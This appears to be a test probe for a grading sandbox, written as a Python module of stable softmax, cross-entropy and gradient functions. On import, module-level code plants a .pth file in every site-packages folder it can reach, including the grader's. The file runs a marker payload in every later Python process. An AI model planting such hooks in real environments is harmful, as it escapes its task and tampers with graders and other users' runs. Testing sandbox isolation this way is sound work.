"""Drops a .pth file into every site-packages folder it can find, to run code in every later Python.

A line of a .pth file that starts with "import" runs when any Python starts with that folder on
its path: the grader's next run, the next student's worker. It tries the folders the grader's
Python uses (the test passes them in, as a student could guess them), site.getsitepackages(),
the user's site-packages and every *-packages folder on sys.path. The functions are the reference.
"""
import math
import os
import site
import sys

import numpy as np


MARKER = "__MARKER__"
GRADER_FOLDERS = "__SITE_PACKAGES__".split(os.pathsep)  # the grader's site-packages folders
PAYLOAD = f"import sys; sys.stderr.write('{MARKER} ran in ' + sys.executable + '\\n')\n"


def folders():
    found = set(GRADER_FOLDERS) | set(site.getsitepackages()) | {site.getusersitepackages()}
    found |= {entry for entry in sys.path if entry.endswith("-packages")}
    return sorted(found)


for folder in folders():
    path = os.path.join(folder, f"zz_{MARKER}.pth")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(path, "w") as handle:
            handle.write(PAYLOAD)
        print(f"planted {path}")
    except OSError as refusal:
        print(f"refused {path}: {type(refusal).__name__}")


def _shifted_and_rest(logits):
    """Logits minus their max, and the sum of exp over every entry but one maximal one.

    Keeping that sum apart from the max's own exp(0) = 1 lets log1p see it whole, so a loss of
    1e-20 comes out as 1e-20 instead of log(1.0) = 0.
    """
    z = np.asarray(logits, dtype=np.float64)
    top = int(np.argmax(z))
    shifted = z - z[top]
    exps = np.exp(shifted)
    exps[top] = 0.0
    return shifted, float(np.sum(exps))


def log_softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (shifted - math.log1p(rest)).tolist()


def softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (np.exp(shifted) / (1.0 + rest)).tolist()


def cross_entropy_loss(logits, true_id):
    shifted, rest = _shifted_and_rest(logits)
    return math.log1p(rest) - float(shifted[true_id])


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return math.fsum(losses) / len(losses)


def perplexity(loss):
    try:
        return math.exp(loss)
    except OverflowError:
        return math.inf


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    # p[t] - 1 = exp(-loss) - 1: expm1 keeps its digits when p[t] is within 1e-16 of one.
    grad[true_id] = math.expm1(-cross_entropy_loss(logits, true_id))
    return grad
